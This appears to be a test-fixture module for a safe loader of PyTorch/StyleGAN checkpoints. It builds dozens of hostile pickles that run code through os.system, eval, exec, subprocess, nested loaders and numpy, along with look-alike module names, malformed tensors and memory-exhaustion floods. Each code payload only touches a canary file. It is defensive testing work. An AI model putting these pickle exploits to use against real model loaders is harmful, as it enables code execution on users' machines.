"""Pickles that would do harm: every kind of bypass known to us, each aimed at making a file, the canary.

`PROVEN` are those that Python's own unpickler carries out; a test has it do so in a process of its own.
"""

import contextlib
import io
import pickle
import struct
import zipfile
from pathlib import Path

from interop.official import SOURCE, checkpoint, generator, persistent_generator

END = b"."


def text(value: str) -> bytes:
    """A short or long string of protocol 4."""
    data = value.encode("utf-8", "surrogatepass")
    return (b"\x8c" + bytes([len(data)]) if len(data) < 256 else b"X" + struct.pack("<I", len(data))) + data


def byte_string(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def stacked(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(attribute) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    """REDUCE."""
    return function + b"(" + b"".join(arguments) + b"tR"


def proto(body: bytes, number: int = 4) -> bytes:
    return b"\x80" + bytes([number]) + body + END


def legacy_storage(inner: bytes) -> bytes:
    """torch's legacy bytes up to where the root object stands, which is `inner`."""
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    return head + pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2) + inner


def _root(kind: str = "FloatStorage", count: int = 6, view: bytes = b"N") -> bytes:
    """The pickle of ("storage", type, key, device, count, view) as a persistent reference."""
    what = text("storage") + name("torch", kind) + text("0") + text("cpu")
    return b"\x80\x02(" + what + pickle.dumps(count, 2)[2:-1] + view + b"tQ."


def storage(
    kind: str = "FloatStorage",
    count: int = 6,
    announced: int = 6,
    raw: int = 24,
    keys: str = "0",
    view: bytes = b"N",
) -> bytes:
    """torch.storage._load_from_bytes of a storage with these lengths."""
    data = (
        legacy_storage(_root(kind, count, view))
        + pickle.dumps([keys], 2)
        + struct.pack("<q", announced)
        + bytes(raw)
    )
    return call(name("torch.storage", "_load_from_bytes"), byte_string(data))


def tensor(
    size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0, made: bytes | None = None
) -> bytes:
    """torch._utils._rebuild_tensor_v2 of a storage of six numbers."""
    numbers = [pickle.dumps(value, 2)[2:-1] for value in (offset, size, stride)]
    arguments = [
        storage() if made is None else made,
        *numbers,
        b"\x89",
        call(name("collections", "OrderedDict")),
    ]
    return call(name("torch._utils", "_rebuild_tensor_v2"), *arguments)


def network(
    state: bytes, *, kind: str = "class", source: str = "x", class_name: bytes | None = None
) -> bytes:
    """A checkpoint {"G_ema": network} whose embedded object has this pickled state."""
    meta = (
        b"}("
        + text("type")
        + text(kind)
        + text("version")
        + b"K\x06"
        + text("module_src")
        + text(source)
        + text("class_name")
        + (class_name or text("Generator"))
        + text("state")
        + state
        + b"u"
    )
    made = call(name("torch_utils.persistence", "_reconstruct_persistent_obj"), meta)
    return proto(b"}" + text("G_ema") + made + b"s")


def parameter(made: bytes) -> bytes:
    """A network whose only parameter is this."""
    return network(b"}" + text("_parameters") + b"}" + text("weight") + made + b"ss")


def touch(canary: str) -> str:
    return f"touch '{canary}'"


def code(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


def _module_source(canary: str) -> bytes:
    official = checkpoint(G_ema=persistent_generator(generator()))
    old, new = SOURCE.encode(), (code(canary) + "\n").encode()
    return official.replace(b"\x8c" + bytes([len(old)]) + old, b"\x8c" + bytes([len(new)]) + new)


def _zip_storage(canary: str) -> bytes:
    """A new-format torch file whose data.pkl calls os.system, inside of _load_from_bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", proto(call(name("os", "system"), text(touch(canary))), 2))
        archive.writestr("archive/version", "3\n")
    return call(name("torch.storage", "_load_from_bytes"), byte_string(buffer.getvalue()))


def _numpy_file(canary: str) -> bytes:
    """An .npy of objects, to be given to numpy.load."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    data = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
    return data + proto(call(name("os", "system"), text(touch(canary))), 2)


def _objects(canary: str) -> bytes:
    """numpy's _reconstruct with an object array in its state."""
    made = call(name("os", "system"), text(touch(canary)))
    array = call(
        name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"K\x00\x85", b"C\x01b"
    )
    dtype = call(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    return array + b"(K\x01K\x01\x85" + dtype + b"\x89](" + made + b"etb"


def _reduces(canary: str) -> dict[str, bytes]:
    """Calls that Python's unpickler carries out."""
    shell, source = text(touch(canary)), text(code(canary))
    getattr_ = name("builtins", "getattr")
    system = call(getattr_, call(name("builtins", "__import__"), text("os")), text("system"))
    modules = call(getattr_, name("sys", "modules"), text("get"))
    partial = call(name("functools", "partial"), name("os", "system"), shell)
    return {
        "global": call(name("os", "system"), shell),
        "global posix": call(name("posix", "system"), shell),
        "stack global": call(stacked("os", "system"), shell),
        "dotted name": call(stacked("os", "path.os.system"), shell),
        "dotted through allowed": call(stacked("torch", "serialization.os.system"), shell),
        "eval": call(name("builtins", "eval"), text(f"__import__('os').system({touch(canary)!r})")),
        "exec": call(name("builtins", "exec"), source),
        "compile and exec": call(
            name("builtins", "exec"), call(name("builtins", "compile"), source, text("x"), text("exec"))
        ),
        "getattr chain": call(system, shell),
        "sys.modules": call(call(getattr_, call(modules, text("os")), text("system")), shell),
        "attrgetter": call(
            call(
                call(name("operator", "attrgetter"), text("system")),
                call(name("builtins", "__import__"), text("os")),
            ),
            shell,
        ),
        "methodcaller": call(
            call(name("operator", "methodcaller"), text("system"), shell),
            call(name("builtins", "__import__"), text("os")),
        ),
        "partial": call(partial),
        "map": call(
            name("builtins", "list"), call(name("builtins", "map"), name("os", "system"), b"]" + shell + b"a")
        ),
        "open": call(name("builtins", "open"), text(canary), text("w")),
        "io.open": call(name("io", "open"), text(canary), text("w")),
        "pathlib": call(stacked("pathlib", "Path.touch"), call(name("pathlib", "Path"), text(canary))),
        "subprocess": call(name("subprocess", "call"), b"](" + text("touch") + text(canary) + b"e"),
        "popen": call(name("os", "popen"), shell),
        "spawn": call(name("os", "spawnlp"), b"K\x00", text("touch"), text("touch"), text(canary)),
        "pty": call(name("pty", "spawn"), b"](" + text("touch") + text(canary) + b"e"),
        "runpy": call(name("runpy", "_run_code"), source, b"}"),
        "code interpreter": call(
            call(getattr_, call(name("code", "InteractiveInterpreter")), text("runsource")), source
        ),
        "timeit": call(name("timeit", "timeit"), text("pass"), source),
        "cProfile": call(name("cProfile", "run"), source),
        "profile": call(name("profile", "run"), source),
        "numpy.load": call(
            name("numpy", "load"),
            call(name("io", "BytesIO"), byte_string(_numpy_file(canary))),
            b"N",
            b"\x88",
        ),
        "numpy object array": _objects(canary),
        "nested pickle.loads": call(
            name("pickle", "loads"), byte_string(proto(call(name("os", "system"), shell), 2))
        ),
        "nested torch.load": call(
            name("torch.storage", "_load_from_bytes"),
            byte_string(legacy_storage(proto(call(name("os", "system"), shell), 2))),
        ),
        "nested torch.load first": call(
            name("torch.storage", "_load_from_bytes"),
            byte_string(proto(call(name("os", "system"), shell), 2)),
        ),
        "inst": b"(" + shell + b"ios\nsystem\n",
        "obj": b"(" + name("os", "popen") + shell + b"o",
        "build with __setstate__": _setstate(canary),
        "zip in torch.load": _zip_storage(canary),
    }


def _setstate(canary: str) -> bytes:
    """BUILD calls __setstate__ of what was made: here of a functools.partial that then is called."""
    partial = call(name("functools", "partial"), name("builtins", "list"))
    state = b"(" + name("os", "system") + text(touch(canary)) + b"\x85}Nt"
    return call(partial + state + b"b")


PROVEN: tuple[str, ...] = tuple(_reduces("x"))


def pickles(canary: str) -> dict[str, bytes]:
    """Every hostile pickle by name."""
    found = {title: proto(body) for title, body in _reduces(canary).items()}
    found |= {f"in a network: {title}": network(body) for title, body in list(_reduces(canary).items())[:6]}
    return {**found, **_names(canary), **_others(canary), **_tensors(), **_damaged(), **_floods()}


def _names(canary: str) -> dict[str, bytes]:
    """Names that are nearly allowed, or that something else gives a meaning."""
    shell = text(touch(canary))
    every = {
        "cyrillic torch": stacked("t\u043erch", "float32"),
        "full-width name": stacked("torch", "\uff46loat32"),
        "nul in a name": stacked("torch\x00", "float32"),
        "newline in a name": stacked("torch.storage\nos", "system"),
        "space in a name": stacked("torch storage", "system"),
        "empty names": stacked("", ""),
        "number as a name": b"K\x01K\x02\x93",
        "main": name("__main__", "os"),
        "known class elsewhere": name("evil.training.networks", "Generator"),
        "known module, longer": name("training.networks_evil", "Generator"),
        "submodule of a known one": name("training.networks.evil", "Generator"),
        "torch.hub": name("torch.hub", "load"),
        "torch.load itself": name("torch", "load"),
        "torch private": name("torch._utils", "_import_dotted_name"),
        "torch jit": name("torch.jit", "load"),
        "torch inductor": name("torch._inductor.codecache", "compile_file"),
        "module of functions": name("torch.nn.modules", "os"),
        "pip": name("pip", "main"),
        "pip internal": name("pip._internal.cli.main", "main"),
        "webbrowser": name("webbrowser", "open"),
        "ctypes": name("ctypes", "CDLL"),
        "site": name("_sitebuiltins", "Quitter"),
        "logging config": name("logging.config", "_resolve"),
        "multiprocessing": name("multiprocessing.util", "spawnv_passfds"),
        "numpy testing": name("numpy.testing._private.utils", "runstring"),
        "importlib": name("importlib", "import_module"),
        "joblib": name("joblib.numpy_pickle", "load"),
        "dill": name("dill._dill", "_create_function"),
        "cloudpickle": name("cloudpickle.cloudpickle", "_builtin_type"),
        "dnnlib": name("dnnlib.util", "get_obj_by_name"),
        "persistence decorator": name("torch_utils.persistence", "import_hook"),
    }
    return {title: proto(call(body, shell)) for title, body in every.items()}


def _others(canary: str) -> dict[str, bytes]:
    """Opcodes and structures that weights do not need, or that lie."""
    shell = text(touch(canary))
    base = name("collections", "OrderedDict")
    words = b"](" + text("touch") + text(canary) + b"e"
    return {
        "newobj": proto(name("subprocess", "Popen") + words + b"\x85\x81"),
        "newobj_ex": proto(name("subprocess", "Popen") + words + b"\x85}\x92"),
        "newobj of a known class with keywords": proto(name("training.networks", "Generator") + b")}\x92"),
        "copyreg": proto(call(name("copyreg", "__newobj__"), name("subprocess", "Popen"), words)),
        "copyreg reconstructor": proto(call(name("copyreg", "_reconstructor"), name("os", "system"), shell)),
        "dotted to sys.modules": proto(call(stacked("collections", "abc.sys.modules.get"), text("os"))),
        "ext1": proto(b"\x82\x01"),
        "ext2": proto(b"\x83\x01\x00"),
        "ext4": proto(b"\x84\x01\x00\x00\x00"),
        "persid": b"Pos.system\n.",
        "binpersid": proto(shell + b"Q"),
        "next buffer": proto(b"\x97", 5),
        "source with code": _module_source(canary),
        "type other than class": network(b"}", kind="module"),
        "type function": network(b"}", kind="func"),
        "class name that is a call": network(b"}", class_name=text("__import__('os').system")),
        "class name no text": network(b"}", class_name=b"K\x07"),
        "hook in the meta": network(b"}" + text("_backward_hooks") + b"]" + name("os", "system") + b"as"),
        "zip inside": proto(_zip_storage(canary)),
        "zip as a parameter": parameter(_zip_storage(canary)),
        "dict subclass with reduce": proto(base + b")R}" + text("__reduce__") + name("os", "system") + b"sb"),
        "setstate on a tensor": parameter(tensor((2,), (1,)) + b"}" + text("a") + shell + b"sb"),
        "call of a string": proto(shell + b")R"),
        "call of a result": proto(base + b")R)R"),
        "call with no tuple": proto(base + b"]R"),
        "new object of a list": proto(b"])\x81"),
        "encode to rot13": proto(call(name("_codecs", "encode"), text("bf.flfgrz"), text("rot13"))),
        "two protocols": b"\x80\x04\x80\x02" + call(name("os", "system"), shell) + END,
        "protocol 200": b"\x80\xc8" + call(name("os", "system"), shell) + END,
        "known class called": proto(call(name("training.networks", "Generator"), shell)),
        "dtype called": proto(call(name("torch", "float32"), shell)),
        "key that is a network": proto(b"}" + call(base) + b"Ns"),
        "items on a storage": parameter(storage() + shell + shell + b"s"),
        "dictionary of a number": proto(call(base, b"K\x03")),
        "dictionary of no pairs": proto(call(base, b"]K\x03a")),
        "set of a number": proto(call(name("builtins", "set"), b"K\x03")),
        "more attributes than a network has": network(
            b"}(" + b"".join(text(f"a{n}") + b"N" for n in range(20_001)) + b"u"
        ),
    }


def _tensors() -> dict[str, bytes]:
    """Tensors that reach beyond their bytes, and bytes that are not what they say."""
    shapes = {
        "stride 0": ((1000, 1000), (0, 0)),
        "stride negative": ((2, 2), (-1, 1)),
        "beyond the storage": ((7,), (1,)),
        "far stride": ((2, 2), (1 << 39, 1)),
        "overflow": ((1 << 62, 4), (1, 1)),
        "product overflows": ((1 << 32, 1 << 32), (1, 1)),
        "size negative": ((-1,), (1,)),
        "ranks differ": ((2, 3), (1,)),
        "many dimensions": ((1,) * 100, (1,) * 100),
        "no values": ((0, 1 << 39), (1, 1)),
    }
    found = {title: parameter(tensor(size, stride)) for title, (size, stride) in shapes.items()}
    broken = {
        "offset beyond": tensor((2,), (1,), offset=6),
        "offset negative": tensor((2,), (1,), offset=-1),
        "count too small": tensor((2,), (1,), made=storage(announced=5)),
        "count huge": tensor((2,), (1,), made=storage(count=1 << 39, announced=1 << 39)),
        "count negative": tensor((2,), (1,), made=storage(count=-6, announced=-6)),
        "bytes missing": tensor((2,), (1,), made=storage(raw=23)),
        "bytes too many": tensor((2,), (1,), made=storage(raw=25)),
        "other key": tensor((2,), (1,), made=storage(keys="1")),
        "storage of objects": tensor((2,), (1,), made=storage(kind="ObjectStorage")),
        "storage name called": tensor((2,), (1,), made=storage(kind="FloatTensor")),
        "no storage": tensor((2,), (1,), made=b"N"),
        "storage of text": call(name("torch.storage", "_load_from_bytes"), text("abc")),
        "storage in itself": call(name("torch.storage", "_load_from_bytes"), storage()),
        "parameter of a list": call(name("torch._utils", "_rebuild_parameter"), b"]", b"\x88", b"N"),
        "numpy scalar of objects": call(
            name("numpy.core.multiarray", "scalar"),
            call(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88"),
            b"C\x08" + bytes(8),
        ),
        "numpy scalar too short": call(
            name("numpy.core.multiarray", "scalar"),
            call(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88"),
            b"C\x04" + bytes(4),
        ),
        "storage of nothing": tensor((1,), (1,), made=storage(count=0, announced=0, raw=0)),
        "storage that is a view": tensor((2,), (1,), made=storage(view=text("1") + b"K\x00K\x02\x87")),
        "storage that calls": call(
            name("torch.storage", "_load_from_bytes"),
            byte_string(legacy_storage(proto(call(name("torch", "FloatStorage")), 2))),
        ),
        **_arrays(),
    }
    return {**found, **{title: parameter(body) for title, body in broken.items()}}


def _arrays() -> dict[str, bytes]:
    """Arrays of numpy, which are filled by their state, and types of numbers."""
    made = call(
        name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"K\x00\x85", b"C\x01b"
    )
    number = call(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88")
    filled = lambda *parts: made + b"(K\x01" + b"".join(parts) + b"tb"  # noqa: E731
    scalar = lambda kind: call(name("numpy.core.multiarray", "scalar"), kind, b"C\x08" + bytes(8))  # noqa: E731
    return {
        "array without a state": made,
        "array of a state too short": filled(b"K\x02\x85"),
        "array of a negative shape": filled(b"J\xff\xff\xff\xff\x85", number, b"\x89", b"C\x08" + bytes(8)),
        "array of a text as its type": filled(b"K\x01\x85", text("f8"), b"\x89", b"C\x08" + bytes(8)),
        "array of too few bytes": filled(b"K\x02\x85", number, b"\x89", b"C\x08" + bytes(8)),
        "type without a name": scalar(call(name("numpy", "dtype"))),
        "type of a strange order": scalar(number + b"(K\x03" + text("?") + b"tb"),
    }


def _damaged() -> dict[str, bytes]:
    """Lengths that lie, and structures that lead back into themselves."""
    return {
        "bytes of 2^62": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"abc.",
        "bytes of 2^64-1": b"\x80\x04\x8e" + struct.pack("<Q", (1 << 64) - 1) + b"abc.",
        "bytes of 4 GB": b"\x80\x04B" + struct.pack("<I", (1 << 32) - 1) + b"abc.",
        "text of 2^62": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"abc.",
        "bytearray of 2^62": b"\x80\x05\x96" + struct.pack("<Q", 1 << 62) + b"abc.",
        "long of 2 GB": b"\x80\x02\x8b" + struct.pack("<i", (1 << 31) - 1) + b"abc.",
        "long of less than nothing": b"\x80\x02\x8b" + struct.pack("<i", -5) + b"abc.",
        "decimal of a million digits": b"I" + b"9" * 1_000_000 + b"\n.",
        "frame of 2^62": b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"}.",
        "memo index 2^32-1": proto(b"}r\xff\xff\xff\xff"),
        "memo never set": proto(b"j\x07\x00\x00\x00"),
        "memo below zero": b"}p-5\n.",
        "list in itself": proto(b"}" + text("G_ema") + b"]\x94h\x00as"),
        "dict in itself": proto(b"}\x94" + text("G_ema") + b"h\x00s"),
        "state in itself": network(b"}\x94" + text("_modules") + b"h\x00s"),
        "network in itself": proto(
            b"}"
            + text("G_ema")
            + name("training.networks", "Generator")
            + b")\x81\x94}"
            + text("_modules")
            + b"}"
            + text("a")
            + b"h\x00ssbs"
        ),
        "nothing but stop": b".",
        "empty stack": proto(b"0"),
        "unknown opcode": proto(b"\xff"),
        "no mark": proto(b"t"),
        "mark left": proto(b"(}"),
        "two values": proto(b"}}"),
        "append to a number": proto(b"K\x01K\x02a"),
        "no end": b"\x80\x04}",
    }


def last(values: bytes, index: int) -> bytes:
    """Throw all these values away again, but the one remembered under `index`."""
    return b"(" + values + b"1h" + bytes([index])


def _floods() -> dict[str, bytes]:
    """Small files that ask for much memory or time."""
    lists = b"".join(b"](h" + bytes([n]) + b"h" + bytes([n]) + b"e\x94" for n in range(200))
    tuples = b"".join(b"h" + bytes([n]) * 1 + b"h" + bytes([n]) + b"\x86\x94" for n in range(200))
    ordered = name("collections", "OrderedDict")
    many = byte_string(_storage_bytes(1 << 20)) + b"\x85\x94"
    return {
        "billion laughs": proto(b"}" + text("x") + last(b"]\x94" + lists, 200) + b"s"),
        "billion laughs of tuples": proto(b"}" + text("x") + last(b")\x94" + tuples, 200) + b"s"),
        "arguments that double": network(
            b"}" + text("_init_kwargs") + b"}" + text("a") + last(b"]\x94" + lists[: 8 * 150], 150) + b"ss"
        ),
        "networks that double": proto(b"}" + text("G_ema") + last(_doubling_modules(60), 61) + b"s"),
        "deep tuples": proto(b"N" + b"\x85" * 100_000),
        "deep tuples as a key": proto(b"}N" + b"\x85" * 100_000 + b"Ns"),
        "deep lists": proto(b"]" * 100_000 + b"a" * 99_999),
        "deep calls": proto(ordered * 2_000 + b")" + b"R\x85" * 1_999 + b"R"),
        "deep inside a network": network(b"}" + text("a") + b"N" + b"\x85" * 100_000 + b"s"),
        "opcode flood": proto(b"N0" * 3_000_000),
        "stack flood": proto(b"N" + b"2" * 3_000_000),
        "object flood": proto(ordered + b"\x940](" + b"h\x00)R" * 300_000 + b"e"),
        "storage parsed again and again": proto(
            last(name("torch.storage", "_load_from_bytes") + b"\x94" + many, 0)[:-2]
            + b"}"
            + text("x")
            + b"]("
            + b"h\x00h\x01R" * 20_000
            + b"es"
        ),
        "one storage copied again and again": proto(_copies(50_000)),
        "long text as a key": proto(
            b"}X" + struct.pack("<I", 5_000_000) + b"a" * 5_000_000 + b"\x94Ns" + b"h\x00Ns" * 200_000
        ),
    }


def _doubling_modules(levels: int) -> bytes:
    """Networks each of which has the one before twice among its parts; memo 0 is the class."""
    made = name("training.networks", "Generator") + b"\x94h\x00)\x81}b\x94"
    for index in range(levels):
        inner = b"h" + bytes([index + 1])
        parts = b"}(" + text("a") + inner + text("b") + inner + b"u"
        made += b"h\x00)\x81}" + text("_modules") + parts + b"sb\x94"
    return made


def _storage_bytes(count: int) -> bytes:
    return (
        legacy_storage(_root(count=count))
        + pickle.dumps(["0"], 2)
        + struct.pack("<q", count)
        + bytes(4 * count)
    )


def _copies(times: int) -> bytes:
    """The same megabytes asked for again and again."""
    made = call(name("torch.storage", "_load_from_bytes"), byte_string(_storage_bytes(1 << 20)))
    arguments = b"(" + made + b"K\x00J" + struct.pack("<i", 1 << 20) + b"\x85K\x01\x85\x89Nt\x94"
    known = b"(" + name("torch._utils", "_rebuild_tensor_v2") + b"\x94" + arguments + b"1"
    return known + b"}" + text("x") + b"](" + b"h\x00h\x01R" * times + b"es"


def carried_out(folder: Path) -> None:
    """Let Python's own unpickler have each of `PROVEN`; to be called in a process of its own."""
    for index, title in enumerate(PROVEN):
        data = pickles(str(folder / f"canary-{index}"))[title]
        with contextlib.suppress(BaseException), contextlib.redirect_stdout(io.StringIO()):
            pickle.loads(data)  # noqa: S301 - the point
